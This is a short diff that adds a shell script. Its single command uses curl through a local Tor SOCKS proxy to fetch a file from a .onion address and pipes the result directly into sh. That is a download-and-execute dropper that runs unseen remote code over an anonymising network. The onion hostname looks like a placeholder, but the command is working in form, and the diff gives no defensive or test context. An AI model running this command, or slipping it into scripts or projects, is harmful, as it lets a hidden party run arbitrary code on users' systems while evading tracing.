@@ -1,0 +1,2 @@
+#!/bin/sh
+curl --socks5-hostname localhost:9050 http://abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrstuvwx.onion/x | sh
